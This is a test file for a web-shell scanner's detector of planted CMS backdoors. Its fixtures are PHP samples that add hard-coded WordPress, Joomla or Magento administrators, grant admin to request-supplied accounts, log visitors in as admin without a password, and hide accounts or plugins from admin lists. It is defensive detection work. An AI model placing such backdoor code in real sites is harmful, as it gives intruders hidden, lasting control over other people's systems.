/**
 * CMS backdoors (issue 27): a page adding an administrator whose login and password it spells
 * out, through WordPress's user functions or SQL; an installer taking them from its form is
 * not one.
 */
import { describe, expect, it } from 'vitest';
import {
  addsAdministratorUnasked,
  addsFixedAdministrator,
  hidesPluginFromList,
  hidesUserFromList,
  logsInAsAdministrator,
} from '../../src/findings/web-shell/planted-accounts.js';
import { topFinding } from '../support/top-finding.js';

describe('administrators planted with fixed credentials', () => {
  it('ranks a page adding a fixed administrator through WordPress critical', () => {
    const page = `<?php
require 'wp-load.php';
$data = array('user_login' => 'wpsupport', 'user_pass' => 'S3cret!', 'role' => 'administrator');
wp_insert_user($data);
`;
    expect(topFinding('/var/www/html/wp-content/uploads/x.php', page)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/adds an administrator whose name and password it spells out/),
    });
    const created = `<?php $id = wp_create_user('backup', 'p4ss'); $u = new WP_User($id); $u->set_role('administrator');`;
    expect(addsFixedAdministrator(created)).toBe(true);
  });

  it("reads a '$' in a single-quoted password as a letter, not as a variable", () => {
    // A plugin backdoor's generated password: `$` is literal between single quotes.
    const plugin = `<?php
function create_admin() {
  if (!username_exists('support.desk')) {
    $user_id = wp_create_user('support.desk', '&FD6$Fe!r', 'desk@example.org');
    $user = new WP_User($user_id);
    $user->set_role('administrator');
  }
}
add_action('init', 'create_admin');`;
    expect(addsFixedAdministrator(plugin)).toBe(true);
    // Between double quotes, `$Fe` is a variable: the password is not spelt out.
    expect(addsFixedAdministrator(plugin.replace("'&FD6$Fe!r'", '"&FD6$Fe!r"'))).toBe(false);
  });

  it('finds a fixed user inserted into a users table with an administrator role', () => {
    const page = `<?php
$u = 'helpdesk';
$db->exec("INSERT INTO jos_users (username, password, usertype) VALUES (\\"$u\\", MD5('x'), 'Super Administrator')");
`;
    expect(addsFixedAdministrator(page)).toBe(true);
  });

  it("finds Magento's admin user model saved with a password the page holds", () => {
    const page = `<?php
require_once 'app/Mage.php';
Mage::app();
$user = Mage::getModel('admin/user')->setData(array(
  'username' => 'support', 'email' => 'a@example.org', 'password' => 'Winter2024', 'is_active' => 1,
))->save();
$user->setRoleIds(array($role->getId()))->saveRelations();
@unlink(__FILE__);`;
    expect(addsFixedAdministrator(page)).toBe(true);
    // An edit-me constant is the page's too.
    expect(addsFixedAdministrator(page.replace("'Winter2024'", 'PASSWORD'))).toBe(true);
    // Magento 2's model, its password set by a call.
    const two = `<?php
$user = $objectManager->create('Magento\\User\\Model\\User');
$user->setUsername('ops')->setPassword('Passw0rd!')->setIsActive(1);
$user->save();`;
    expect(addsFixedAdministrator(two)).toBe(true);
    // An admin form saving what the visitor typed.
    const form = page.replace("'Winter2024'", "$this->getRequest()->getParam('password')");
    expect(addsFixedAdministrator(form)).toBe(false);
    expect(addsFixedAdministrator(page.replace("'Winter2024'", 'NULL'))).toBe(false);
  });

  it('does not flag an installer or an admin screen taking the account from its form', () => {
    const installer = `<?php
$user_id = wp_create_user($user_name, $user_password, $user_email);
$user = new WP_User($user_id);
$user->set_role('administrator');
`;
    const form = `<?php
$login = $_POST['login'];
$db->query("INSERT INTO wp_users (user_login, user_pass) VALUES ('$login', '" . md5($_POST['pass']) . "')");
update_user_meta($id, 'wp_capabilities', array('administrator' => true));
`;
    expect(addsFixedAdministrator(installer)).toBe(false);
    expect(addsFixedAdministrator(form)).toBe(false);
  });

  it('ranks a page making a named or requested account an administrator, asking no rights, critical', () => {
    const script = `<?php
require_once('wp-load.php');
$username = 'support2';
$password = wp_generate_password(16);
if (username_exists($username)) die('exists');
$user_id = wp_create_user($username, $password, 'support2@example.net');
$user = new WP_User($user_id);
$user->set_role('administrator');
echo "Username: $username Password: $password";
`;
    expect(topFinding('/var/www/html/make-admin.php', script)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(
        /makes an account it or the visitor names a WordPress administrator/,
      ),
    });
    const hook = `<?php
function work_2() {
  $u = @$_REQUEST['__u'];
  $p = @$_REQUEST['__p'];
  if (!isset($u) || username_exists($u)) return;
  $id = wp_create_user($u, $p, 'someone@example.net');
  if (!is_wp_error($id)) get_user_by('id', $id)->set_role('administrator');
}
add_action('init', 'work_2');
`;
    expect(addsAdministratorUnasked(hook)).toBe(true);
  });

  it('leaves an admin screen that checks rights, and a sign-up making subscribers', () => {
    const screen = `<?php
if (!current_user_can('create_users')) wp_die('no');
check_admin_referer('add-user');
$id = wp_create_user($_POST['user_login'], $_POST['pass1'], $_POST['email']);
(new WP_User($id))->set_role('administrator');
`;
    const signup = `<?php
$id = wp_create_user($_POST['login'], $_POST['pass'], $_POST['email']);
(new WP_User($id))->set_role('subscriber');
`;
    expect(addsAdministratorUnasked(screen)).toBe(false);
    expect(addsAdministratorUnasked(signup)).toBe(false);
  });

  it('ranks a page logging its visitor in as an administrator without a password critical', () => {
    const named = `<?php
function work_1() {
  if (!isset($_GET['log-me-in'])) return;
  $user = get_user_by('login', 'admin');
  wp_set_current_user($user->ID);
  wp_set_auth_cookie($user->ID);
  wp_safe_redirect(user_admin_url());
}
add_action('init', 'work_1');`;
    expect(topFinding('/var/www/html/wp-content/mu-plugins/x.php', named)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/logs its visitor into WordPress as an administrator/),
    });
    // The first administrator found among the users.
    const first = `<?php foreach ($wpdb->get_results("SELECT ID FROM $wpdb->users") as $u) {
  if (user_can($u->ID, 'administrator')) { wp_set_auth_cookie($u->ID); wp_redirect(admin_url()); exit; } }`;
    expect(logsInAsAdministrator(first)).toBe(true);
    // Logins of a site's own: after a password, a token or a nonce is checked, a user
    // switcher for those who may act for others, a social login by the address it was
    // given, and pluggable.php's definition.
    for (const own of [
      `<?php $u = wp_authenticate($login, $pass); if (!is_wp_error($u)) wp_set_auth_cookie($u->ID); $r = get_users(['role' => 'administrator']);`,
      `<?php if (!hash_equals(get_user_meta($id, 'magic', true), $_GET['t'])) exit; $u = get_user_by('id', 1); wp_set_auth_cookie($u->ID);`,
      `<?php check_admin_referer('switch'); if (user_can($old, 'administrator')) wp_set_auth_cookie($target->ID);`,
      `<?php $user = get_user_by('email', $profile->email); wp_set_auth_cookie($user->ID);`,
      `<?php function wp_set_auth_cookie($user_id, $remember = false) { $u = get_user_by('login', 'x'); }`,
    ])
      expect(logsInAsAdministrator(own)).toBe(false);
  });

  it("ranks a page hiding an account from WordPress's list of users critical", () => {
    const hider = `<?php add_action('pre_user_query', 'dt_pre_user_query');
function dt_pre_user_query($s) { global $wpdb;
  $s->query_where = str_replace('WHERE 1=1', "WHERE 1=1 AND {$wpdb->users}.user_login != 'new_admin'", $s->query_where); }`;
    expect(topFinding('/var/www/html/wp-content/themes/t/functions.php', hider)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/hides an account it names/),
    });
    // A user query narrowed by role, and a login compared outside a user query.
    expect(
      hidesUserFromList(
        `<?php add_action('pre_user_query', function ($q) { $q->query_where .= " AND role = 'editor'"; });`,
      ),
    ).toBe(false);
    expect(hidesUserFromList(`<?php if ($u->user_login != 'admin') echo 'hi';`)).toBe(false);
  });

  it("ranks a plugin hiding itself from WordPress's list of plugins critical", () => {
    const hider = `<?php
/* Plugin Name: Zend Fonts WP */
add_filter('all_plugins', 'hide_plugins');
function hide_plugins($plugins) {
  unset($plugins['zend-fonts-wp/zend-fonts-wp.php']);
  return $plugins;
}`;
    expect(topFinding('/var/www/html/wp-content/plugins/zend-fonts-wp/z.php', hider)).toMatchObject(
      {
        severity: 'critical',
        reason: expect.stringMatching(/hides itself from WordPress's list of plugins/),
      },
    );
    // Its name as a constant, and as a variable set to its basename.
    const named = `<?php define('PLUGIN_BASE', plugin_basename(__FILE__));
function hide_plugin($plugins) { if (isset($plugins[PLUGIN_BASE])) unset($plugins[PLUGIN_BASE]); return $plugins; }
add_filter('all_plugins', 'hide_plugin');`;
    expect(hidesPluginFromList(named)).toBe(true);
    const held = `<?php class H { function __construct() { add_filter( 'all_plugins', [ $this, 'hide' ] ); }
  function hide( $plugins ) { $plugin_basename = plugin_basename( __FILE__ ); unset( $plugins[ $plugin_basename ] ); return $plugins; } }`;
    expect(hidesPluginFromList(held)).toBe(true);
    // Akismet rewrites its own description on the same list; a white-label tool hides the
    // plugins its options name; a list edited on another hook.
    const described = `<?php add_filter( 'all_plugins', array( 'Akismet_Admin', 'modify_plugin_description' ) );
function modify_plugin_description( $all_plugins ) { $all_plugins['akismet/akismet.php']['Description'] = 'x'; unset( self::$notices[ $index ] ); return $all_plugins; }`;
    expect(hidesPluginFromList(described)).toBe(false);
    const optioned = `<?php add_filter('all_plugins', function ($plugins) {
  foreach ((array) get_option('wl_hidden') as $hidden) unset($plugins[$hidden]);
  return $plugins; });`;
    expect(hidesPluginFromList(optioned)).toBe(false);
    const elsewhere = `<?php add_filter('plugin_action_links', function ($links) { unset($links['deactivate.php']); return $links; });`;
    expect(hidesPluginFromList(elsewhere)).toBe(false);
  });
});
